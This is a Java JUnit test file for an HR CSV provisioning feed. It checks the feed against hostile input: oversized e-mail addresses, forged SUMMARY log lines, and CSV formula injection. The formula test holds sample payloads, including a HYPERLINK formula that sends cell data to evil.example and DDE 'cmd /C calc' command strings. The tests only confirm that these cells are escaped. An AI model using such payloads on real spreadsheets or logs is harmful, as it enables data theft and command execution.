package dev.lucidscim.examples.hr;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Set;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.Callable;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import dev.lucidscim.examples.support.LucidTarget;
import org.apache.camel.builder.RouteBuilder;
import org.apache.camel.impl.DefaultCamelContext;
import org.apache.camel.main.Main;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The HR feed against hostile exports: a 10 KB e-mail address, cells and names that try to print a line of their
 * own (a fake {@code SUMMARY} line, the one CI reads), cells a spreadsheet would run as formulas, and a step that
 * throws an {@link Error}. Each is handled without stopping the inbox.
 */
@Timeout(300)
class HrHostileInputTest {

    private static final String HEADER = String.join(",", HrCsvReader.COLUMNS) + "\n";
    /** A domain of 5,000 labels: the repeated group of the e-mail regex the component used to have overflowed it. */
    private static final String TEN_KB_EMAIL = "a@" + "b.".repeat(5_000) + "com";
    /** How long a file may take on a busy build machine (the inbox waits 500 ms for a file to settle). */
    private static final Duration PATIENCE = Duration.ofSeconds(60);
    private static final String FORGED_SUMMARY = "x\nSUMMARY created=999 updated=0 unchanged=0 deactivated=0 failed=0";

    @TempDir
    Path work;
    private final LucidTarget target = LucidTarget.simulated(null);

    @AfterEach
    void stop() {
        target.close();
    }

    @Test
    void aTenKilobyteEmailIsRejectedWithABoundedReasonAndTheInboxReadsTheNextFile() throws Exception {
        RecordingListener listener = new RecordingListener();
        HrSettings watching = settings(false);
        Main main = HrCsvProvisioningApp.main(target, new HrCsvRoutes(watching, target.describe(), listener),
                watching);
        main.start();
        try {
            drop("first.csv", "E1,\"" + TEN_KB_EMAIL + "\",Ana,Silva,Sales,,,active,\n"
                              + "E2,bo.li@example.com,Bo,Li,Sales,,,active,\n");
            ProvisioningRun first = listener.nextDone();

            assertThat(first.rejectedRows()).singleElement().satisfies(row -> {
                assertThat(row.reason()).startsWith("e-mail address longer than 254 characters: 'a@b.b.")
                        .endsWith("... (" + TEN_KB_EMAIL.length() + " characters)'").hasSizeLessThan(150);
                assertThat(row.values()).contains(TEN_KB_EMAIL);
            });
            assertThat(first.users(ProvisioningRun.Result.CREATED)).isEqualTo(1);
            eventually(() -> Files.exists(inbox().resolve(".done/first.csv")) && locks().isEmpty());

            drop("second.csv", "E3,cy.ng@example.com,Cy,Ng,Sales,,,active,\n");
            assertThat(listener.nextDone().users(ProvisioningRun.Result.CREATED)).isEqualTo(1);
            assertThat(listener.failed).isEmpty();
        } finally {
            main.stop();
        }
    }

    @Test
    void anErrorThrownByAStepFailsTheFileInsteadOfLockingTheInbox() throws Exception {
        RecordingListener listener = new RecordingListener();
        BlockingQueue<String> read = new LinkedBlockingQueue<>();
        try (DefaultCamelContext camel = new DefaultCamelContext()) {
            camel.getShutdownStrategy().setTimeout(5);
            camel.addRoutes(new RouteBuilder() {
                @Override
                public void configure() {
                    HrInbox.from(this, settings(false), "hr-error-test", listener).process(exchange -> {
                        String name = exchange.getMessage().getHeader("CamelFileNameOnly", String.class);
                        if (name.startsWith("overflowing")) {
                            throw new StackOverflowError();
                        }
                        read.add(name);
                    });
                }
            });
            camel.start();

            drop("overflowing.csv", "");
            eventually(() -> Files.exists(inbox().resolve(".failed/overflowing.csv")) && locks().isEmpty());
            assertThat(listener.failed.poll(PATIENCE.toSeconds(), TimeUnit.SECONDS)).contains("overflowing.csv")
                    .contains("StackOverflowError");

            drop("next.csv", "");
            assertThat(read.poll(PATIENCE.toSeconds(), TimeUnit.SECONDS)).isEqualTo("next.csv");
        }
    }

    @Test
    void aCellCannotPrintASecondSummaryLine() throws Exception {
        drop("hr-export.csv", "E1,ana.silva@example.com,Ana,Silva,\"" + FORGED_SUMMARY + "\",,,active,\n"
                              + "E2,\"" + FORGED_SUMMARY + "\",Bo,Li,Sales,,,active,\n"
                              + "E3,cy.ng@example.com,Cy,Ng,Sales,,,\"x\r\nSUMMARY created=999\u2028\",\n");

        List<String> printed = printedLines(() -> HrCsvProvisioningApp.runOnce(settings(true), target));

        assertThat(printed).filteredOn(line -> line.startsWith("SUMMARY ")).containsExactly(
                "SUMMARY created=1 updated=0 unchanged=0 deactivated=0 failed=0 rejected=2 groups_created=1 "
                + "groups_updated=0 groups_unchanged=0 groups_failed=0");
        assertThat(printed).anyMatch(line -> line.contains("'x\\nSUMMARY created=999 updated=0"))
                .anyMatch(line -> line.contains("unknown status 'x\\r\\nSUMMARY created=999\\u2028'"));
    }

    @Test
    void aFileNameOrAServerDetailCannotPrintASecondSummaryLine() {
        ProvisioningRun run = new ProvisioningRun("hr\nSUMMARY created=999.csv");
        HrRow row = new HrRow(2, "E1", "ana@example.com", "Ana", "Silva", "Sales", null, null, HrStatus.ACTIVE,
                List.of());
        // as a server's detail would reach the message of a component exception
        run.userFailed(row, new IllegalStateException("HTTP 409 uniqueness: taken\r\nSUMMARY created=999"));
        run.groupFailed(FORGED_SUMMARY, new IllegalStateException("refused"));
        run.groupExcluded(FORGED_SUMMARY);

        String table = SummaryTable.render(run, "Lucid", "-");

        assertThat(table.lines().filter(line -> line.startsWith("SUMMARY "))).containsExactly(
                SummaryTable.summaryLine(run));
        assertThat(table).contains("hr\\nSUMMARY created=999.csv", "taken\\r\\nSUMMARY created=999",
                "group x\\nSUMMARY created=999");
    }

    @Test
    void aBrokenHeaderFailsTheFileWithAMessageOnOneLine() throws Exception {
        dropFile("broken.csv", "employee_id,,\"" + FORGED_SUMMARY + "\"\nE1,,\n");

        assertThatThrownBy(() -> HrCsvProvisioningApp.runOnce(settings(true), target))
                .satisfies(failure -> {
                    for (Throwable cause = failure; cause != null; cause = cause.getCause()) {
                        assertThat(cause.getMessage()).doesNotContain("\n", "\r");
                    }
                })
                .rootCause().hasMessageContaining("broken.csv has a broken header: A header name is missing in ")
                .hasMessageContaining("x\\nSUMMARY created=999");
    }

    @Test
    void formulaLikeCellsOfTheErrorFileAreReadBackAsText() throws Exception {
        List<String> formulas = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
                "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2");
        StringBuilder csv = new StringBuilder(HEADER);
        for (String formula : formulas) {
            // a malformed e-mail rejects the row; the formula sits in it and in the first name
            String cell = "\"" + formula.replace("\"", "\"\"") + "\"";
            csv.append("E1,").append(cell).append(',').append(cell).append(",Li,Sales,,,active,\n");
        }
        HrExport export = HrCsvReader.read("formulas.csv", new ByteArrayInputStream(
                csv.toString().getBytes(StandardCharsets.UTF_8)));

        Path file = RejectedRowsFile.write(work.resolve("errors"), export);

        List<CSVRecord> rows;
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
             CSVParser parser = CSVParser.builder().setReader(reader)
                     .setFormat(CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
            rows = parser.getRecords();
        }
        // the HR reader trims cells, so the tab and CR formulas reach the error file as =1+2 (SpreadsheetCsvTest
        // writes them as they are)
        List<String> asRead = formulas.stream().map(String::strip).toList();
        assertThat(rows).extracting(row -> row.get("email")).containsExactlyElementsOf(
                asRead.stream().map(formula -> "'" + formula).toList());
        assertThat(rows).extracting(row -> row.get("first_name")).containsExactlyElementsOf(
                asRead.stream().map(formula -> "'" + formula).toList());
        assertThat(rows).extracting(row -> row.get("line")).containsExactly("2", "3", "4", "5", "6", "7");
        assertThat(rows).extracting(row -> row.get("reason")).allMatch(reason -> reason.endsWith(
                "is not a valid e-mail address"));
    }

    private HrSettings settings(boolean once) {
        return new HrSettings(inbox(), work.resolve("errors"), Set.of(), true, once);
    }

    private Path inbox() {
        return work.resolve("inbox");
    }

    /** Drops an export with the expected header and these rows in the inbox. */
    private void drop(String fileName, String rows) throws IOException {
        dropFile(fileName, HEADER + rows);
    }

    private void dropFile(String fileName, String content) throws IOException {
        Files.createDirectories(inbox());
        // written aside and moved in, so the inbox never sees half a file
        Path aside = Files.writeString(work.resolve(fileName), content, StandardCharsets.UTF_8);
        Files.move(aside, inbox().resolve(fileName));
    }

    private List<Path> locks() throws IOException {
        try (Stream<Path> files = Files.list(inbox())) {
            return files.filter(file -> file.getFileName().toString().endsWith(".camelLock")).toList();
        }
    }

    private static void eventually(Callable<Boolean> condition) throws Exception {
        Instant deadline = Instant.now().plus(PATIENCE);
        while (!condition.call()) {
            assertThat(Instant.now()).as("waited " + PATIENCE).isBefore(deadline);
            Thread.sleep(100);
        }
    }

    /** What the job prints on the console while it runs, line by line. */
    private static List<String> printedLines(Callable<?> job) throws Exception {
        PrintStream out = System.out;
        PrintStream err = System.err;
        ByteArrayOutputStream printed = new ByteArrayOutputStream();
        PrintStream capture = new PrintStream(printed, true, StandardCharsets.UTF_8);
        System.setOut(capture);
        System.setErr(capture);
        try {
            job.call();
        } finally {
            System.setOut(out);
            System.setErr(err);
        }
        // split as a log viewer would: at CR, LF, NEL and the Unicode line and paragraph separators
        return List.of(printed.toString(StandardCharsets.UTF_8).split("\r\n|[\r\n\u0085\u2028\u2029]"));
    }

    /** Keeps what the feed tells of each file. */
    private static final class RecordingListener implements HrFeedListener<ProvisioningRun> {
        private final BlockingQueue<ProvisioningRun> done = new LinkedBlockingQueue<>();
        private final BlockingQueue<String> failed = new LinkedBlockingQueue<>();

        @Override
        public void fileDone(ProvisioningRun result) {
            done.add(result);
        }

        @Override
        public void fileFailed(String fileName, Exception cause) {
            failed.add(fileName + ": " + cause);
        }

        ProvisioningRun nextDone() throws InterruptedException {
            ProvisioningRun run = done.poll(PATIENCE.toSeconds(), TimeUnit.SECONDS);
            assertThat(run).as("the next file done within " + PATIENCE + "; failed: " + failed).isNotNull();
            return run;
        }
    }
}
